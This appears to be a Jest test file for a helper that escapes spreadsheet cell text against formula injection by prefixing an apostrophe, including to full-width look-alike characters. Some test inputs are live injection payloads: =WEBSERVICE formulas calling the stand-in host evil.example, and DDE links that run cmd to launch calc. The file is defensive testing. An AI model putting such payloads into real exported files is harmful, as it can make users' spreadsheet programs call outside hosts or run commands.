import { asCellText, asCellTexts, needsTextPrefix } from "../../src/workbook/cell-text";

describe("asCellText", () => {
  test.each<[string, string | number | boolean, string | number | boolean]>([
    ["a formula", '=WEBSERVICE("https://evil.example")', `'=WEBSERVICE("https://evil.example")`],
    ["a plus sign", "+1+1", "'+1+1"],
    ["a minus sign", "-2+3", "'-2+3"],
    ["an at sign", "@SUM(A1)", "'@SUM(A1)"],
    ["a DDE link", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["a leading apostrophe (kept as typed)", "'quoted", "''quoted"],
    ["a tab", "\t=1+1", "'\t=1+1"],
    ["a line break", "\nline", "'\nline"],
    ["a NUL", "\u0000x", "'\u0000x"],
    ["a C1 control", "\u009bx", "'\u009bx"],
    [
      "a full-width equals sign",
      '＝WEBSERVICE("https://evil.example")',
      '\'＝WEBSERVICE("https://evil.example")',
    ],
    ["a small equals sign", "﹦A+B", "'﹦A+B"],
    ["a full-width plus sign", "＋A+B", "'＋A+B"],
    ["a small plus sign", "﹢A+B", "'﹢A+B"],
    ["a full-width minus sign", "－A+B", "'－A+B"],
    ["a small minus sign", "﹣A+B", "'﹣A+B"],
    ["a full-width at sign", "＠SUM(A:A)", "'＠SUM(A:A)"],
    ["a full-width DDE link", "＝cmd|' /C calc'!A", "'＝cmd|' /C calc'!A"],
    ["a full-width apostrophe", "＇quoted", "'＇quoted"],
    ["a month in full-width digits", "２０２４-１０", "'２０２４-１０"],
    ["a full-width boolean", "ＴＲＵＥ", "'ＴＲＵＥ"],
    ["plain full-width text", "ＰＣＤ", "ＰＣＤ"],
    ["plain text", "Natural gas, Germany", "Natural gas, Germany"],
    ["a month as text", "2024-10", "'2024-10"],
    ["a series code", "68520-8-1", "'68520-8-1"],
    ["a percentage", "5%", "'5%"],
    ["a number as text", "42", "'42"],
    ["a boolean as text", "TRUE", "'TRUE"],
    ["an error code as text", "#N/A", "'#N/A"],
    ["a word that holds true", "untrue", "untrue"],
    ["an inner equals sign", "a=b", "a=b"],
    ["empty text", "", ""],
    ["a negative number", -5, -5],
    ["a number", 42.5, 42.5],
    ["a boolean", true, true],
  ])("%s", (_name, value, written) => {
    expect(asCellText(value)).toEqual(written);
    if (typeof value === "string") expect(needsTextPrefix(value)).toBe(written !== value);
  });

  test("a block keeps its shape", () => {
    expect(
      asCellTexts([
        ["=1", 2],
        ["x", "-y"],
      ]),
    ).toEqual([
      ["'=1", 2],
      ["x", "'-y"],
    ]);
  });
});
